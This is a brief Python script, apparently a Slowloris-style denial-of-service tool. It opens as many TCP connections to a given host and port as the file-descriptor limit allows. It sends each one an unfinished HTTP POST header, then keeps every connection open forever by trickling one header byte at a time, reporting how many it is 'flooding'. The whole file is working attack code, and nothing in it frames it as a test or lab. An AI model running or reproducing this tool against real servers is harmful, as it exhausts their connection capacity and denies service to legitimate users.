"""Opens many connections and keeps them busy with as little as possible; says how many it has."""

import resource
import selectors
import socket
import sys

host, port, wanted = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
waiting = selectors.DefaultSelector()
streams = []
for n in range(wanted):
    try:
        stream = socket.create_connection((host, port), timeout=5)
        stream.sendall(b"POST /slow HTTP/1.1\r\nHost: slow\r\nX-")
        stream.settimeout(0)
        streams.append(stream)
    except OSError:
        pass
print("flooding", len(streams), flush=True)
letters = 0
while True:
    # A letter of a header field for everybody, as long as nobody says stop.
    waiting.select(timeout=0.05)
    for stream in streams:
        try:
            stream.send(b"a")
        except OSError:
            pass
    letters += 1
    if letters == 20:
        print("kept up", flush=True)
